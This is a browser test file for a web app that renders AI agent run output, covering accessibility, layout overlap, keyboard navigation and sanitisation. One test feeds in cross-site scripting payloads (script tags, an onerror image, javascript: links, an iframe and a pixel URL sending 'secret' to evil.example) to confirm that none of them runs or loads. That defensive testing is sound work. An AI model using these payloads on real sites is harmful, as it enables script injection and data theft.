// Every page: nothing serious for axe, nothing that sticks out, nothing that a hostile text could do; and the whole way by keyboard.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { after, test } from 'node:test';
import { closeBrowser, openHouse } from './house.mjs';
import { ask, execute, page as written, plan, together } from './parts.mjs';

after(closeBrowser);

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const play = ({ role, title, prompt }) => {
  if (role === 'tree_planner') return prompt.includes('Which') && !prompt.includes('"a"') ? ask('Which one?', ['a', 'b']) : plan('sides', ['Here', 'There']);
  if (role === 'tree_executor') return written(title, `# ${title}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\`\`\`\ncode\n\`\`\``);
  return together('Both', '# Both');
};

async function filled() {
  const house = await openHouse(play);
  const page = await house.page();
  const done = await house.api('POST', '/api/runs', { kind: 'tree', objective: 'Here and there', success_criteria: ['both are described'] });
  const asks = await house.api('POST', '/api/runs', { kind: 'tree', objective: 'Which of the two, with a rather long objective that has to wrap on a narrow screen and still be readable' });
  const project = await house.api('POST', '/api/projects', { title: 'Garden', description: 'What grows' });
  await page.getByText('completed', { exact: true }).waitFor();
  await page.locator('#main').getByText('waiting on you', { exact: true }).waitFor();
  const { documents } = await house.api('GET', `/api/runs/${done.id}/workspace`);
  const doc = documents.find((item) => item.type_key === 'document.tree_agent.artifact');
  const root = (await house.api('GET', `/api/runs/${done.id}`)).root_node_id;
  const places = ['/', '/questions', '/documents', `/documents/${doc.id}`, '/projects', `/projects/${project.id}`, '/webhooks', '/settings', '/nowhere',
    ...['tree', 'outline', 'timeline', 'documents', 'report', 'metrics', 'events'].map((view) => `/runs/${done.id}?view=${view}`), `/runs/${done.id}?node=${root}`, `/runs/${asks.id}`];
  return { house, page, places };
}

test('axe finds nothing serious on any page in either theme, wide or narrow', async () => {
  const { house, page, places } = await filled();
  for (const colorScheme of ['light', 'dark']) {
    for (const width of [1600, 375]) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      await page.setViewportSize({ width, height: 900 });
      for (const place of places) {
        await page.goto(house.url + place);
        await page.getByRole('heading').first().waitFor();
        // The page's policy forbids foreign scripts; the inspector comes in through the debugger.
        await page.evaluate(axe);
        const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
        const serious = violations.filter((violation) => ['serious', 'critical'].includes(violation.impact));
        assert.deepEqual(serious.map((violation) => `${violation.id}: ${violation.nodes[0].html}`), [], `${place} ${colorScheme} ${width}`);
      }
    }
  }
  await house.close();
});

test('nothing sticks out at 375, 768 and 1600 pixels', async () => {
  const { house, page, places } = await filled();
  for (const width of [375, 768, 1600]) {
    await page.setViewportSize({ width, height: 900 });
    for (const place of places) {
      await page.goto(house.url + place);
      await page.getByRole('heading').first().waitFor();
      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)) <= 0, `${place} at ${width} scrolls sideways`);
      const covered = await page.evaluate(overlaps);
      assert.deepEqual(covered, [], `${place} at ${width}`);
    }
  }
  await house.close();
});

/** Buttons and links that somebody cannot hit because another one lies on them. */
function overlaps() {
  const shown = [...document.querySelectorAll('main button, main a, main input')].filter((element) => {
    const box = element.getBoundingClientRect();
    return box.width > 0 && box.height > 0 && box.top >= 0 && box.bottom < innerHeight - 70 && box.left >= 0 && box.right <= innerWidth && getComputedStyle(element).visibility === 'visible' && !element.closest('[inert]');
  });
  return shown
    .filter((element) => {
      const box = element.getBoundingClientRect();
      const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
      const scrolled = element.closest('[role=tablist], .tabs');
      return top && !scrolled && !element.contains(top) && !top.contains(element) && !top.closest('label, li, canvas, [role=tree], [role=slider], nav');
    })
    .map((element) => element.outerHTML.slice(0, 120));
}

test('e4 hostile text does nothing', async () => {
  const hostile = '# <img src=x onerror="window.owned=1">\n\n<script>window.owned = 1</script>\n\n![pixel](https://evil.example/pixel.png?q=secret)\n\n[click](javascript:window.owned=1) [data](data:text/html,<script>1</script>)\n\n<iframe src="https://evil.example"></iframe> <a href="javascript:window.owned=1">x</a>\n\n[ok](https://example.org/)';
  const nasty = '"><script>window.owned=1</script>';
  const house = await openHouse(({ role, title }) => (role === 'tree_planner' ? plan(hostile, [`Step ${nasty}`]) : role === 'tree_executor' ? written(`Doc ${nasty}`, hostile, hostile) : together(`All ${title}`, hostile)));
  const page = await house.page();
  const foreign = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(house.url) && !request.url().startsWith('data:')) foreign.push(request.url());
  });
  page.on('dialog', (dialog) => foreign.push(dialog.message()));
  const { id } = await house.api('POST', '/api/runs', { kind: 'tree', objective: `Beware ${nasty}` });
  await page.goto(`${house.url}/runs/${id}?view=report`);
  await page.getByText('image not loaded').first().waitFor();
  const { documents } = await house.api('GET', `/api/runs/${id}/workspace`);
  for (const place of [`/runs/${id}`, `/runs/${id}?view=documents`, `/runs/${id}?view=events`, '/', ...documents.map((doc) => `/documents/${doc.id}`)]) {
    await page.goto(house.url + place);
    await page.getByRole('heading').first().waitFor();
    const bad = await page.evaluate(() => [...document.querySelectorAll('main script, main iframe, main img, a[href^="javascript"], a[href^="data"]')].map((element) => element.outerHTML));
    assert.deepEqual(bad, [], place);
  }
  assert.equal(await page.evaluate(() => window.owned), undefined);
  assert.deepEqual(foreign, []);
  await house.close();
});

test('the whole way by keyboard: start, answer, walk the tree, open what was made, come back', async () => {
  const house = await openHouse(({ role, title, prompt }) => {
    if (role === 'tree_planner') return prompt.includes('"keyboard answer"') ? plan('sides', ['Here', 'There']) : ask('By hand?');
    return role === 'tree_executor' ? written(title, `# ${title}\n\nText of ${title}.`) : together('Both', '# Both');
  });
  const page = await house.page();
  const press = async (...keys) => { for (const key of keys) await page.keyboard.press(key); };
  await page.getByRole('button', { name: /first run/ }).waitFor();
  await press('c');
  await page.keyboard.type('Work without a mouse');
  await press('Control+Enter');
  await page.waitForURL(/\/runs\//);
  await page.getByLabel('Your answer').waitFor();
  await press('a');
  await page.keyboard.type('keyboard answer');
  await press('Enter');
  await page.getByText('completed', { exact: true }).first().waitFor();
  await page.evaluate(() => document.activeElement?.blur());
  await press('g', 'o');
  const tree = page.getByRole('tree');
  await tree.waitFor();
  for (let i = 0; i < 60 && !(await tree.evaluate((element) => element === document.activeElement)); i += 1) await press('Tab');
  await press('Home', '*', 'ArrowRight', 'ArrowDown', 'Enter');
  await page.getByRole('complementary', { name: 'Node' }).getByText('Done when').waitFor();
  await press('Escape');
  await page.getByRole('complementary', { name: 'Node' }).waitFor({ state: 'detached' });
  await page.evaluate(() => document.activeElement?.blur());
  await press('g', 'd');
  await page.getByRole('heading', { name: 'Both' }).first().waitFor();
  await press('?');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  await press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await house.close();
});
